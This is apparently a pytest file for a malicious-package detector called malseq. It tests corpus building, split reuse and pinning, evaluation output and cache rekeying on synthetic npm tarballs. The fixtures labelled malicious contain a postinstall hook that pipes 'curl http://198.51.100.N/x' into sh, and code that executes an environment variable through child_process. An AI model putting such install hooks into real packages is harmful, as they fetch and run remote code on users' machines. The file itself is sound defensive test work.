from __future__ import annotations

import json
from pathlib import Path

import pytest
from corpus_helpers import npm_tgz

from malseq._cli import main


def test_build_then_eval(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "data"
    data.mkdir()
    lines = ["path\tlabel\tecosystem\tstratum"]
    for i in range(30):
        if i % 2:
            body = npm_tgz(
                f"m{i}",
                "1.0.0",
                {"postinstall": f"curl http://198.51.100.{i}/x | sh"},
                {"index.js": f"require('child_process').exec(process.env.T{i})".encode()},
            )
            lines.append(f"m{i}.tgz\tmalicious\tnpm\tmalicious")
        else:
            body = npm_tgz(f"b{i}", "1.0.0", files={"index.js": f"module.exports = (a) => a + {i} * {i};\n".encode()})
            lines.append(f"b{i}.tgz\tbenign\tnpm\t{'popular' if i % 4 else 'long-tail'}")
        (data / lines[-1].split("\t")[0]).write_bytes(body)
    (data / "labels.tsv").write_text("\n".join(lines) + "\n")
    wd = tmp_path / "work"
    rc = main(
        [
            "corpus",
            "build",
            "--workdir",
            str(wd),
            "--no-default-sources",
            "--folder",
            str(data),
            "--no-download",
            "--jobs",
            "1",
            "--timeout",
            "20",
        ]
    )
    assert rc == 0
    report = json.loads((wd / "build-report.json").read_text())
    assert report["cache_rows"] == 30 and report["split"] == "written"
    assert set(report["seconds"]) >= {"load", "analyse", "group_and_split", "total"}
    assert "corpus build: load" in capsys.readouterr().out
    # a second build reuses the split and the cache
    assert (
        main(["corpus", "build", "--workdir", str(wd), "--no-default-sources", "--folder", str(data), "--no-download"])
        == 0
    )
    report = json.loads((wd / "build-report.json").read_text())
    assert report["split"] == "reused" and report["analyse"]["cached"] == 30
    # the time protocol is the default: build wrote split-time.json; eval makes it again if it is gone
    assert (wd / "split-time.json").exists() and not (wd / "split.json").exists()
    (wd / "split-time.json").unlink()
    assert main(["eval", "--workdir", str(wd), "--models", "rules", "--out", str(tmp_path / "rep")]) == 0
    assert json.loads((wd / "split-time.json").read_text())["meta"]["mode"] == "time"
    out = capsys.readouterr().out
    assert "| rules | npm |" in out
    doc = json.loads((tmp_path / "rep" / "metrics.json").read_text())
    assert doc["models"]["rules"]["by_ecosystem"]["npm"]["n"] > 0
    assert main(["corpus", "stats", "--workdir", str(wd)]) == 0
    # a grown corpus pinned to the old split: every old sample keeps its split
    old = json.loads((wd / "split-time.json").read_text())
    for i in range(30, 40):
        (data / f"n{i}.tgz").write_bytes(npm_tgz(f"n{i}", "1.0.0", files={"index.js": f"exports.n = {i};".encode()}))
        lines.append(f"n{i}.tgz\tbenign\tnpm\tpopular")
    (data / "labels.tsv").write_text("\n".join(lines) + "\n")
    (wd / "old-split.json").write_text(json.dumps(old))
    assert main(["corpus", "build", "--workdir", str(wd), "--no-default-sources", "--folder", str(data),
                 "--no-download", "--resplit", "--pin-split", str(wd / "old-split.json")]) == 0
    grown = json.loads((wd / "split-time.json").read_text())
    kept = {s["key"]: s["split"] for s in old["samples"]}
    assert len(grown["samples"]) == 40 and grown["meta"]["pinned"] == 30
    assert all(s["split"] == kept[s["key"]] for s in grown["samples"] if s["key"] in kept)


def test_eval_without_a_corpus_says_what_to_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["eval", "--workdir", str(tmp_path / "empty")]) == 3
    err = capsys.readouterr().err
    assert "no split-time.json in" in err and "no corpus to make one from" in err
    assert err.rstrip().endswith("(run `malseq corpus build` first, or give --split-file)")  # one pair of brackets


def test_rekey_carries_a_built_corpus_over_and_refuses_a_difference(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import sqlite3

    from malseq_lab.corpus.cache import extractor_version
    from malseq_lab.corpus.rekey import version_for_key

    data = tmp_path / "data"
    data.mkdir()
    lines = ["path\tlabel\tecosystem\tstratum"]
    for i in range(6):
        (data / f"p{i}.tgz").write_bytes(npm_tgz(f"p{i}", "1.0.0", {"postinstall": f"node s{i}.js"},
                                                 {f"s{i}.js": f"require('os').hostname({i})".encode()}))
        lines.append(f"p{i}.tgz\tbenign\tnpm\tpopular")
    (data / "labels.tsv").write_text("\n".join(lines) + "\n")
    wd = tmp_path / "work"
    assert main(["corpus", "build", "--workdir", str(wd), "--no-default-sources", "--folder", str(data),
                 "--no-download"]) == 0
    # as if an older checkout had written every row: move them to another key
    db = sqlite3.connect(wd / "analysis.sqlite")
    db.execute("UPDATE analyses SET extractor_version=? WHERE extractor_version=?",
               (version_for_key("00000000deadbeef"), extractor_version()))
    db.commit()
    capsys.readouterr()
    args = ["corpus", "rekey", "--workdir", str(wd), "--from-key", "00000000deadbeef", "--sample", "2", "--jobs", "1"]
    # the default minimum is 100 compared rows: a 2-row sample is refused, nothing copied
    assert main(args) == 1
    assert "only 2 rows could be compared" in capsys.readouterr().err
    def rows_of_the_running_code() -> int:
        return int(db.execute("SELECT COUNT(*) FROM analyses WHERE extractor_version=?",
                              (extractor_version(),)).fetchone()[0])

    assert rows_of_the_running_code() == 2
    # the running code reproduces the sample: every other row is carried over
    assert main([*args, "--minimum", "2"]) == 0
    assert "copied 4" in capsys.readouterr().out
    assert rows_of_the_running_code() == 6
    db.close()
